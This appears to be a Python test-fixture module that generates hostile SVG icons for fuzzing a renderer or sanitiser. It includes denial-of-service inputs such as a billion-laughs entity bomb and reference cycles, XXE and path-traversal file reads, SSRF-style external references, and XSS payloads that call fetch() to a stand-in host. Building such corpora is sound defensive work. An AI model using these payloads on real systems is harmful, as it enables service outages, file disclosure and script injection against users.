"""Icons drawn to do harm, by family: to hang or exhaust what draws them, to reach files and
hosts, to run in a browser.
"""

import base64
import gzip
import random
import re
import zlib
from collections.abc import Iterator
from pathlib import Path

from tests.render.documents import HANGING, REFUSED, SQUARE, nested, svg

XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
HTML = 'xmlns="http://www.w3.org/1999/xhtml"'
EXTREMES = (
    "0",
    "-1",
    "1e9",
    "1e-300",
    "1e308",
    "-1e308",
    "1e999",
    "nan",
    "inf",
    "9" * 400,
    "%",
    "",
    "50%",
    "1e9%",
    "0x10",
    "1,,1",
    "é",
)
# Elements that may refer to each other in a circle, and the attribute that refers to them.
CIRCLES = {
    "pattern": "fill",
    "mask": "mask",
    "clipPath": "clip-path",
    "marker": "marker-mid",
    "filter": "filter",
}


def exhausting() -> dict[str, str]:
    """Small documents that cost a drawing program time, memory or its stack."""
    cycles = {
        f"cycle of {tag}": svg(f'<{tag} id="a"><g {how}="url(#b)">{SQUARE}</g></{tag}>'
                               f'<{tag} id="b"><g {how}="url(#a)">{SQUARE}</g></{tag}>'
                               f'<path {how}="url(#a)" d="M0 0h24v24H0z"/>')
        for tag, how in CIRCLES.items()
    }  # fmt: skip
    crossing = "".join(f"L{n * 7919 % 1009} {n * 104729 % 1013}" for n in range(15_000))
    stops = "".join(f'<stop offset="{n / 4900}" stop-color="#{n:06x}"/>' for n in range(4900))
    fonts = "".join(f'<text y="9" font-family="font {n}">W</text>' for n in range(2000))
    rules = "".join(
        f"g g g g g g g g:nth-child({number}) {{ fill: red }}" for number in range(4000)
    )
    tile = base64.b64encode(_png(30_000)).decode()
    return {
        **{f"hanging: {name}": source for name, source in HANGING.items()},
        **{f"refused: {name}": source for name, source in REFUSED.items()},
        **cycles,
        "use of itself": svg('<g id="a"><use href="#a"/><path d="M0 0h9v9z"/></g>'),
        "use of each other": svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'
                                 '<use href="#a"/>'),
        "use of its root": svg(f'{SQUARE}<use href="#root"/>', 'id="root" viewBox="0 0 24 24"'),
        "gradients in a circle": svg('<linearGradient id="a" href="#b"/>'
                                     '<linearGradient id="b" href="#a"/>'
                                     '<path fill="url(#a)" d="M0 0h9v9z"/>'),
        "nested symbol": nested("symbol", '<use href="#n{}"/>'),
        "nested pattern": nested("pattern", '<path fill="url(#n{})" d="M1 1h9v9"/>'),
        "nested filter": nested("filter", '<path filter="url(#n{})" d="M1 1h9v9"/>'),
        "nested svg": svg("<svg>" * 60 + SQUARE + "</svg>" * 60),
        "descendant selectors": svg(f"<style>{'g ' * 9}path {{ fill: red }}</style>"
                                    f"{'<g>' * 60}{SQUARE}{'</g>' * 60}"),
        "thousands of rules": svg(f"<style>{rules}</style>{'<g>' * 60}{SQUARE * 500}{'</g>' * 60}"),
        "universal selectors": svg(f"<style>{'* > * ~ * + * * * * * { fill: red }' * 500}</style>"
                                   f"{'<g>' * 30}{'<g/>' * 4000}{'</g>' * 30}"),
        "selectors of has": svg(f"<style>{':not(:not(' * 2000}a{'))' * 2000} {{ fill: red }}"
                                f"</style>{SQUARE}"),
        "brackets in a style sheet": svg(f"<style>{'a[' * 50_000}</style>{SQUARE}"),
        "braces in a style sheet": svg(f"<style>{'a{' * 50_000}</style>{SQUARE}"),
        "tiny dashes": svg('<path stroke="red" stroke-width="9" stroke-dasharray="1e-9 1e-9" d="M0 '
                           '0H1e6V1e6z"/>'),
        "many dashes": svg(f'<path stroke="red" stroke-dasharray="{"0.001 " * 40_000}" d="M0 '
                           '0H1e4"/>'),
        "a dash of nothing": svg('<path stroke="red" stroke-dasharray="0 0" d="M0 0h24v24"/>'),
        "round joins": svg('<path stroke="red" stroke-linejoin="round" stroke-width="1e7" d="M0 '
                           f'0{"l9 9l-9 -8" * 20_000}"/>'),
        "self-crossing path": svg(f'<path fill-rule="evenodd" d="M0 0{crossing}"/>'),
        "polygon of many points": svg(f'<polygon points="{"1 2 3 9 " * 30_000}"/>'),
        "polygon of odd points": svg('<polygon points="1 2 3"/><polyline points="1,,2"/>'
                                     '<polygon points=""/>' + SQUARE),
        # Slow in cairo 1.16 alone.
        "arcs that end at a missing marker": svg('<path marker-end="url(#none)" stroke="#000" '
                                                 f'd="M0 0{"a1e12 1e12 0 1 1 9 9" * 400}"/>'),
        "endless arcs": svg(f'<path stroke="#000" d="M0 0{"a1e12 1e12 0 1 1 9 9" * 9000}"/>'),
        "wide strokes": svg('<path stroke="red" stroke-width="1e300" d="M0 0h9v9z"/>'
                            '<circle r="1e300" stroke="red" stroke-width="1e308"/>'),
        "gradient of many stops": svg(f'<linearGradient id="a">{stops}'
                                      '</linearGradient><path fill="url(#a)" d="M0 0h24v24z"/>'),
        "gradient of no size": svg('<radialGradient id="a" r="0" gradientTransform="scale(0)">'
                                   '<stop offset="nan"/></radialGradient>'
                                   '<path fill="url(#a)" d="M0 0h9v9z"/>'),
        "pattern of no size": svg('<pattern id="a" width="0" height="-1"><path d="M0 0h9v9z"/>'
                                  '</pattern><path fill="url(#a)" d="M0 0h24v24z"/>'),
        "pattern of a billion tiles": svg('<pattern id="a" width="1e-6" height="1e-6">'
                                          '<path d="M0 0h9v9z"/></pattern>'
                                          '<path fill="url(#a)" d="M0 0h24v24H0z"/>'),
        "stacked opacity": svg("<g opacity='.9'>" * 60 + SQUARE * 4000 + "</g>" * 60),
        "stacked masks": svg('<mask id="m"><path fill="#fff" d="M0 0h24v24H0z"/></mask>' + '<g '
            'mask="url(#m)">' * 60 + SQUARE * 4000 + "</g>" * 60),
        "long text": svg(f'<text y="9" font-size="1">{"W" * 200_000}</text>'),
        "large text": svg('<text y="9" font-size="1e9">W</text>'),
        "text of no size": svg('<text y="9" font-size="0">W</text><text font-size="-9">W</text>'
                               f'<text font-size="nan">W</text>{SQUARE}'),
        "text in any script": svg('<text y="9" font-size="9">'
                                  f'{"".join(map(chr, range(0x300, 0x3000)))}</text>'),
        "text along a path": svg(f'<path id="p" d="M0 0{"h1v1" * 9000}"/><text><textPath href="#p">'
                                 f'{"W" * 20_000}</textPath></text>'),
        "turned letters": svg(f'<text y="9" rotate="{"7 " * 40_000}" dx="{"1 " * 40_000}">'
                              f'{"W" * 9000}</text>'),
        "many tspans": svg('<text>'
                           f'{"<tspan>" * 60}W{"</tspan>" * 60}{"<tspan>W</tspan>" * 4000}</text>'),
        "many fonts": svg(fonts),
        "filters of any size": svg('<filter id="f" width="1e9" height="1e9">'
                                   '<feGaussianBlur stdDeviation="1e9"/>'
                                   '<feMorphology radius="1e9"/>'
                                   '<feTurbulence numOctaves="99999" baseFrequency="1e9"/>'
                                   '<feOffset dx="1e300"/></filter><g filter="url(#f)">'
                                   f'{SQUARE}</g>'),
        "a convolution": svg('<filter id="f">'
                             f'<feConvolveMatrix order="200" kernelMatrix="{"1 " * 40_000}"/>'
                             f'</filter><g filter="url(#f)">{SQUARE}</g>'),
        "many transforms": svg(f'<path transform="{"rotate(1)scale(1.0001)" * 9000}" d="M0 '
                               '0h9v9z"/>'),
        "a transform to nothing": svg('<g transform="scale(0)"><path d="M0 0h9v9z"/></g>'
                                      '<g transform="matrix(nan 0 0 inf 0 0)">'
                                      '<path d="M0 0h9v9z"/></g>'),
        "many classes": svg(f'<path class="{"a " * 60_000}" d="M0 0h9v9z"/>'),
        "a value of one long word": svg(f'<path fill="{"a" * 200_000}" d="M0 0h9v9z"/>'),
        "a number of many digits": svg(f'<path stroke-width="{"9" * 200_000}" d="M0 '
                                       f'0h{"1" * 50_000}v9z"/>'),
        "brackets in a colour": svg(f'<path fill="rgb({"(" * 100_000}" d="M0 0h9v9z"/>'),
        "variables in variables": svg(f'<path fill="{"var(--a," * 25_000}red{")" * 25_000}" d="M0 '
                                      '0h9v9z"/>'),
        "half a variable": svg(f'<path fill="{"var(--a, (" * 20_000}" d="M0 0h9v9z"/>'),
        "spaces": svg(f'<path fill="{"opacity" + " " * 200_000}" d="M0 0h9v9z"/>'),
        "a huge canvas": svg(SQUARE, 'width="1e9" height="1e9"'),
        "a canvas without end": svg(SQUARE, 'width="1e999" height="1e999" '
                                            'viewBox="0 0 1e999 1e999"'),
        "a canvas of no size": svg(SQUARE, 'width="1e-300" height="1e-300" viewBox="0 0 1e-300 '
                                           '1e-300"'),
        # resvg: the stack, the memory, a file.
        "a filter in a filter's drawing": svg(
            '<filter id="f"><feImage href="#a"/></filter>'
            f'<g id="a" filter="url(#f)">{SQUARE}</g><use href="#a"/>'),
        "use in filtered groups": nested("g", '<g filter="url(#f)"><use href="#n{}"/></g>')
        .replace("</svg>", '<filter id="f"><feOffset dx="1"/></filter></svg>'),
        "a filter of a size that overflows": svg(
            '<filter id="f" x="-1e38" y="-1e38" width="3e38" height="3e38">'
            f'<feFlood/></filter><g filter="url(#f)">{SQUARE}</g>'),
        "a huge blur": svg('<filter id="f" x="-9" y="-9" width="19" height="19">'
                           '<feGaussianBlur stdDeviation="1e5"/></filter>'
                           f'<g filter="url(#f)">{SQUARE}</g>'),
        "a huge pattern": svg('<pattern id="a" width="1e9" height="1e9" '
                              'patternUnits="userSpaceOnUse" patternTransform="scale(1e4)">'
                              f'{SQUARE}</pattern><path fill="url(#a)" d="M0 0h24v24H0z"/>'),
        "a canvas like a thread": svg(SQUARE, 'viewBox="0 0 1 1e9"'),
        "a canvas that is no number": svg(SQUARE, 'width="nan" height="inf" viewBox="nan nan nan '
                                                  'nan"'),
        "sizes of itself": svg(SQUARE, 'width="100%" height="100%" style="font-size: 1e9em"'),
        "units": svg('<rect width="1e300em" height="1e300vmax"/><rect width="1e300ex" height="9q"/>'
                     '<circle r="-1"/>' + SQUARE),
        "a picture of a billion pixels": svg('<image href="data:image/png;'
                                             f'base64,{tile}" width="24" height="24"/>'),
    }  # fmt: skip


def markup() -> dict[str, str]:
    """Documents at the edge of XML, and beyond it."""
    prefixed = " ".join(f'a{n}:b=""' for n in range(5000))
    laughs = "".join(f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 12))
    head = '<?xml version="1.0"?>\n'
    return {
        "a billion laughs": f'{head}<!DOCTYPE svg [<!ENTITY a0 "ha">{laughs}]>'
                            f'{svg("<text>&a11;</text>")}',
        "one long entity": f'<!DOCTYPE svg [<!ENTITY a "{"b" * 50_000}">]>'
                           f'{svg("<text>" + "&a;" * 50_000 + "</text>")}',
        "an entity of itself": '<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
                               f'{svg("<text>&a;</text>")}',
        "an unknown entity": svg("<text>&nbsp;&none;</text>"),
        "default attributes": f'<!DOCTYPE svg [<!ATTLIST g class CDATA "{"b" * 200_000}">]>'
                              f'{svg("<g/>" * 4900 + SQUARE)}',
        "attributes by default": '<!DOCTYPE svg [<!ATTLIST g '
                                 f'{" ".join(f"a{n} CDATA &#34;b&#34;" for n in range(5000))}>]>'
                                 f'{svg(SQUARE)}',
        "a doctype without end": "<!DOCTYPE svg [" + "]" * 100_000 + svg(SQUARE),
        "a comment without end": "<!-- " * 40_000 + svg(SQUARE),
        "many comments": "<!---->" * 30_000 + svg(SQUARE),
        "many instructions": "<?a?>" * 30_000 + svg(SQUARE),
        "many prefixes": svg(SQUARE, " ".join(f'xmlns:a{n}="urn:{n}"' for n in range(5000))),
        "undeclared prefixes": f"<svg {prefixed}>{SQUARE}</svg>",
        "long names": f"<svg {'a' * 100_000}=''><{'b' * 60_000}/></svg>",
        "cut off": svg(SQUARE)[:-20],
        "cut off in a tag": "<svg",
        "two roots": svg(SQUARE) * 2,
        "a root of another space": f'<svg xmlns="urn:other">{SQUARE}</svg>',
        "control characters": svg(f"<title>\x01\x08\x1b[2J\x7f\u202e\ufffe</title>{SQUARE}"),
        "character references to nothing": svg(f"<title>&#0;&#xD800;&#x110000;</title>{SQUARE}"),
        "data instead of text": svg("<style><![CDATA[" + "]]" * 60_000 + f"]]></style>{SQUARE}"),
        "another encoding": '<?xml version="1.0" '
                            f'encoding="UTF-7"?>{svg("+ADw-script+AD4-" + SQUARE)}',
        "nothing in it": svg(""),
        "megabytes": svg(f"<title>{'x' * 20_000_000}</title>{SQUARE}"),
    }  # fmt: skip


def reaching(host: str, file: Path) -> dict[str, str]:
    """Documents that ask for what lies elsewhere: an address below `host`, and a path on this
    machine.
    """
    packed = base64.b64encode(
        gzip.compress(svg(f'<image href="{host}/packed"/>').encode())
    ).decode()
    inner = base64.b64encode(
        svg(f'<image href="{host}/inner"/><image href="{file.as_uri()}"/>').encode()
    ).decode()
    drawings = {
        "image": '<image href="{}" width="9" height="9"/>',
        "xlink image": '<image xlink:href="{}" width="9" height="9"/>',
        "use": '<use href="{}#a"/>',
        "xlink use": '<use xlink:href="{}#a"/>',
        "fill": '<path fill="url({}#a)" d="M0 0h9v9z"/>',
        "fill in quotes": '<path style="fill: url( &quot;{}#a&quot; )" d="M0 0h9v9z"/>',
        "mask": '<path mask="url({}#a)" d="M0 0h9v9z"/>',
        "clip-path": '<path clip-path="url({}#a)" d="M0 0h9v9z"/>',
        "filter": '<path filter="url({}#a)" d="M0 0h9v9z"/>',
        "marker": '<path marker-start="url({}#a)" d="M0 0h9v9z"/>',
        "cursor": '<g style="cursor: url({}), auto"/>',
        "gradient": '<linearGradient id="g" href="{}#a"/><path fill="url(#g)" d="M0 0h9v9z"/>',
        "pattern": '<pattern id="g" xlink:href="{}#a"/><path fill="url(#g)" d="M0 0h9v9z"/>',
        "text path": '<text><textPath href="{}#a">W</textPath></text>',
        "tref": '<text><tref xlink:href="{}#a"/></text>',
        "filter image": '<filter id="f"><feImage href="{}"/></filter>'
                        '<path filter="url(#f)" d="M0 0h9v9z"/>',
        "style sheet": '<style>@import "{}";</style>',
        "style sheet by url": "<style>@import url({});</style>",
        "font": "<style>@font-face {{ font-family: a; src: url({}) }} text {{ font-family: a }}"
                "</style><text y='9'>W</text>",
        "font of svg": '<font-face font-family="a"><font-face-src><font-face-uri xlink:href="{}"/>'
                       '</font-face-src></font-face>',
        "background": "<style>svg, path {{ background: url({}); list-style-image: url({});"
                      " content: url({}) }}</style>",
        "colour profile": '<color-profile name="a" xlink:href="{}"/>',
        "base": '<g xml:base="{}"><image href="a.png" width="9" height="9"/></g>',
        "include": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{}" '
                   'parse="text"/>',
        "link": f'<link {HTML} rel="stylesheet" href="{{}}"/>',
        "links ahead": "".join(f'<link {HTML} rel="{rel}" href="{{}}"/>' for rel in ("prefetch", "p"
            "reconnect", "dns-prefetch", "preload", "icon", "modulepreload", "prerender")),
        "frame": f'<foreignObject width="9" height="9"><iframe {HTML} src="{{}}"/></foreignObject>',
        "object": f'<foreignObject width="9" height="9"><object {HTML} data="{{}}"/>'
                  f'<embed {HTML} src="{{}}"/></foreignObject>',
        "media": f'<foreignObject width="9" height="9"><video {HTML} src="{{}}" poster="{{}}'
                 f'" autoplay=""/><audio {HTML} src="{{}}" autoplay=""/></foreignObject>',
        "web image": f'<foreignObject width="9" height="9"><img {HTML} src="{{}}" srcset="{{}}'
                     ' 2x"/></foreignObject>',
        "refresh": f'<meta {HTML} http-equiv="refresh" content="0;url={{}}"/>',
        "form": f'<foreignObject width="9" height="9"><form {HTML} action="{{}}">'
                '<input type="submit" autofocus=""/></form></foreignObject>',
        "ping": '<a href="#" ping="{}"><path d="M0 0h9v9z"/></a>',
    }  # fmt: skip
    places = {
        "host": f"{host}/{{}}",
        "file": file.as_uri(),
        "path": str(file),
        "relative": f"../../../../../../../..{file}",
    }
    found = {
        f"{name} from {place}": svg(
            SQUARE + drawing.replace("{}", target.format(name.replace(" ", "-"))),
            f'{XLINK} viewBox="0 0 24 24"',
        )
        .replace("{{", "{")
        .replace("}}", "}")
        for name, drawing in drawings.items()
        for place, target in places.items()
    }
    for place, target in (("host", f"{host}/dtd"), ("file", file.as_uri())):
        found |= {
            f"entity from {place}": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{target}">]>'
            f"{svg('<text>&a;</text>')}",
            f"parameter entity from {place}": f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{target}"> '
            f"%a;]>{svg(SQUARE)}",
            f"doctype from {place}": f'<!DOCTYPE svg SYSTEM "{target}">{svg(SQUARE)}',
            f"style sheet instruction from {place}": f'<?xml-stylesheet href="{target}" '
            f'type="text/css"?>{svg(SQUARE)}',
            f"transformation from {place}": f'<?xml-stylesheet href="{target}" '
            f'type="text/xsl"?>{svg(SQUARE)}',
        }
    return found | {
        "packed drawing": svg(
            f'{SQUARE}<image href="data:image/svg+xml;base64,{packed}" width="9" height="9"/>'
        ),
        "drawing in a drawing": svg(
            f'{SQUARE}<image href="data:image/svg+xml;base64,{inner}" width="9" height="9"/>'
        ),
        "PostScript": svg(
            f'{SQUARE}<image href="data:application/postscript,%25!PS-Adobe-3.0 '
            f'EPSF-3.0%0A({file}) run" width="9" height="9"/>'
        ),
        "host that is not ASCII": svg(f'<style>@import "http://é/css";</style>{SQUARE}'),
        "imported data": svg(
            f"<style>@import url(data:text/css,@import%20url({host}/css));</style>{SQUARE}"
        ),
    }


def active(host: str) -> dict[str, str]:
    """Documents that run something in a browser: each would ask `host` for an address, or name
    the page RAN.
    """
    run = (
        "document.title=&quot;RAN&quot;;new "
        f"Image().src=&quot;{host}/ran&quot;;fetch(&quot;{host}/ran&quot;)"
    )
    script = run.replace("&quot;", "'")
    framed = f"&lt;script>{script}&lt;/script>"
    inner = base64.b64encode(
        svg(f"<script>{script}</script>", 'id="x" viewBox="0 0 24 24"').encode()
    ).decode()
    sheet = base64.b64encode(
        b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        b'<xsl:template match="/"><html><script>'
        + script.encode() + b"</script></html></xsl:template></xsl:stylesheet>"
    ).decode()  # fmt: skip
    events = (
        "onload onbegin onend onrepeat onclick onfocus onfocusin onactivate onmouseover "
        "onpointerenter onanimationstart ontransitionend onerror onscroll onunload"
    )
    page = '<foreignObject width="24" height="24">{}</foreignObject>'
    found = {
        "script": f"<script>{script}</script>",
        "script as data": f"<script><![CDATA[{script}]]></script>",
        "script with a type": f'<script type="text/ecmascript">{script}</script>'
                              f'<script type="module">{script}</script>',
        "script from elsewhere": f'<script href="{host}/script.js"/>'
                                 f'<script xlink:href="{host}/script.js"/>',
        "script from data": f'<script href="data:text/javascript,{script}"/>',
        "script of a web page": f"<script {HTML}>{script}</script>",
        "script behind a prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">'
                                  f'{script}</s:script>',
        "script in metadata": f"<metadata><script>{script}</script></metadata><defs><script>"
                              f"{script}</script></defs>",
        "events": "".join(f'<g tabindex="0" autofocus="autofocus" {event}="{run}">{SQUARE}</g>'
                          for event in events.split()),
        "animated event": f'<path d="M0 0h24v24H0z"><set attributeName="onmouseover" to="{run}"/>'
                          f'<animate attributeName="onload" values="{run}" onbegin="{run}" '
                          'dur="1s"/></path>',
        "animated link": '<a id="l"><path d="M0 0h24v24H0z"/>'
                         f'<animate attributeName="href" values="javascript:{run}" dur="9s"/></a>',
        "link": f'<a href="javascript:{run}"><path d="M0 0h24v24H0z"/></a>'
                f'<a xlink:href="data:text/html,{framed}"><path d="M0 0h24v24H0z"/></a>',
        "use of a script": f'<use href="data:image/svg+xml;base64,{inner}#x"/>',
        "handler": '<handler xmlns="http://www.w3.org/2001/xml-events" '
                   'type="application/ecmascript" ev:event="load" '
                   f'xmlns:ev="http://www.w3.org/2001/xml-events">{script}</handler>',
        "animation of a style": '<style>@keyframes a {} g { animation: a 1s }</style>'
                                f'<g onanimationstart="{run}" onanimationend="{run}">{SQUARE}</g>',
        "frame": page.format(f'<iframe {HTML} srcdoc="{framed}"/>'
                             f'<iframe {HTML} src="javascript:{run}"/>'
                             f'<iframe {HTML} src="data:text/html,{framed}"/>'),
        "object": page.format(f'<object {HTML} data="javascript:{run}"/>'
                              f'<embed {HTML} src="data:image/svg+xml;base64,{inner}"/>'
                              f'<object {HTML} data="data:text/html,{framed}"/>'),
        "picture that fails": page.format(f'<img {HTML} src="x" onerror="{run}"/>'
                                          f'<video {HTML} onerror="{run}">'
                                          f'<source src="x" onerror="{run}"/></video>'),
        "page": page.format(f'<body {HTML} onload="{run}"><script>{script}</script>'
                            f'<details open="" ontoggle="{run}"/>'
                            f'<input autofocus="" onfocus="{run}"/></body>'),
        "form": page.format(f'<form {HTML} action="{host}/form"><input name="a"/>'
                            f'<button autofocus="" formaction="javascript:{run}">go</button>'
                            '</form>'),
        "refresh": page.format(f'<meta {HTML} http-equiv="refresh" '
                               f'content="0;url={host}/refresh"/>'),
        "refresh to a script": page.format(f'<meta {HTML} http-equiv="refresh" content="0;'
                                           f'url=javascript:{run}"/><base {HTML} href="{host}/"/>'),
        "policy of its own": page.format(f"<meta {HTML} http-equiv=\"Content-Security-Policy\" "
                                         "content=\"default-src *;"
                                         " script-src * 'unsafe-inline'\"/>")
        + f"<script>{script}</script>",
    }  # fmt: skip
    documents = {
        name: svg(SQUARE + body, f'{XLINK} viewBox="0 0 24 24"') for name, body in found.items()
    }
    return documents | {
        "event of the root": svg(
            SQUARE,
            f'onload="{run}" onclick="{run}" onfocus="{run}" tabindex="0" autofocus="" viewBox="0 '
            '0 24 24"',
        ),
        "transformation": '<?xml-stylesheet type="text/xsl" '
        f'href="data:text/xml;base64,{sheet}"?>{svg(SQUARE)}',
        "transformation of itself": '<?xml-stylesheet type="text/xsl" href="#x"?>'
        f"{svg(SQUARE + f'<script>{script}</script>')}",
    }


def corpus(host: str, file: Path) -> dict[str, str]:
    """Every document of every family by a name of its own; `host` and `file` are what they must
    not reach.
    """
    families = {
        "exhausting": exhausting(),
        "markup": markup(),
        "reaching": reaching(host, file),
        "active": active(host),
    }
    return {
        f"{family}: {name}": source
        for family, documents in families.items()
        for name, source in documents.items()
    }


def mutants(documents: list[str], count: int, seed: int) -> Iterator[str]:
    """Documents made of these at random: numbers swapped for extreme ones, tags for others,
    pieces cut, doubled and spliced.
    """
    rng = random.Random(seed)
    short = [document for document in documents if len(document) < 20_000]
    tags = sorted({tag for document in short for tag in re.findall(r"<([a-zA-Z]\w*)", document)})
    for _ in range(count):
        text = rng.choice(short)
        for _ in range(rng.randint(1, 6)):
            text = _mutated(text, rng, short, tags)
        yield text


def _mutated(text: str, rng: random.Random, documents: list[str], tags: list[str]) -> str:
    here, there = sorted((rng.randrange(len(text) + 1), rng.randrange(len(text) + 1)))
    match rng.randrange(6):
        case 0 | 1:
            numbers = list(re.finditer(r"(?<![\w#])-?\d[\d.]*", text))
            number = rng.choice(numbers) if numbers else None
            return (
                text
                if number is None
                else text[: number.start()] + rng.choice(EXTREMES) + text[number.end() :]
            )
        case 2:
            old, new = rng.choice(tags), rng.choice(tags)
            return re.sub(rf"(</?){old}\b", rf"\g<1>{new}", text)
        case 3:
            body = re.search(r"<svg\b[^>]*>(.*)</svg>", rng.choice(documents), re.DOTALL)
            return text.replace("</svg>", f"{body[1] if body else ''}</svg>", 1)
        case 4:
            there = min(there, here + 2000)
            return text[:there] + text[here:there] * rng.randint(1, 9) + text[there:]
        case _:
            return text[:here] + text[min(there, here + 20) :]


def _png(side: int) -> bytes:
    """A PNG of one colour, side × side pixels, in a few hundred kilobytes or less."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4) + kind + content + zlib.crc32(kind + content).to_bytes(4)

    squeeze = zlib.compressobj(9)
    row = b"\0" * (side // 8 + 1)
    packed = b"".join(squeeze.compress(row) for _ in range(side)) + squeeze.flush()
    header = side.to_bytes(4) + side.to_bytes(4) + bytes([1, 0, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    )
